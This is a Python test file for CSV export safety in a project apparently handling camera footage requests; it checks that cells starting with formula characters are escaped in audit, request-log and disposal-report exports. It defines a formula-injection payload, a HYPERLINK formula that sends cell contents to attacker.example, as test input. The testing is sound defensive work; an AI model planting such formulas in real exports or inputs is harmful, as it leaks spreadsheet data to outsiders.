"""Every CSV export is safe to open in a spreadsheet: a cell that would start a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return) is written as text, with a leading ``'``
that :func:`pscs.csvsafe.original` takes off again."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from pscs import csvsafe
from pscs.audit.events import Actor
from pscs.audit.export import export_lines
from pscs.requests.log import log_csv
from pscs.retention.disposal import DisposalReport, ReportLine, report_csv
from pscs.runtime import Runtime
from tests.test_requests_lifecycle import file
from tests.test_retention_sweeper import add_cameras, user_actor

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_a_cell_that_could_start_a_formula_is_written_as_text_and_can_be_read_back(start: str) -> None:
    value = start + "1+1"
    assert csvsafe.cell(value) == "'" + value
    assert csvsafe.original(csvsafe.cell(value)) == value
    assert csvsafe.cell("Main St") == "Main St" and csvsafe.cell(-5) == -5 and csvsafe.cell(None) is None


def test_audit_export_neutralises_a_formula_in_a_user_agent(sqlite_runtime: Runtime) -> None:
    rt = sqlite_runtime
    rt.audit.record("auth.login.password", Actor("mallory", None, "203.0.113.9", FORMULA), object_type="user")
    rows = rows_of("".join(export_lines(rt.audit.search(actor="mallory"), "csv")))
    assert [r["user_agent"] for r in rows] == ["'" + FORMULA]
    assert csvsafe.original(rows[0]["user_agent"]) == FORMULA  # what the hash chain was taken over


def test_request_log_neutralises_a_formula_in_a_case_number(sqlite_runtime: Runtime) -> None:
    rt = sqlite_runtime
    cams = add_cameras(rt, 1)
    view = file(rt, user_actor(rt, "ivy", ["investigator"]), cams, case_number=FORMULA, unit="@Division")
    [row] = rows_of(log_csv([view]))
    assert (row["case_number"], row["unit"]) == ("'" + FORMULA, "'@Division")


def test_disposal_report_neutralises_a_formula_in_a_camera_name() -> None:
    now = datetime(2026, 3, 1, tzinfo=UTC)
    line = ReportLine(7, "-2+3", "+1 Main St", "retention", 0, 1000, 2, 4096, now, now)
    report = DisposalReport("Dept", now - timedelta(days=30), now, 30, [line])
    [row] = rows_of("".join(report_csv(report)))
    assert (row["camera"], row["location"], row["camera_id"]) == ("'-2+3", "'+1 Main St", "7")
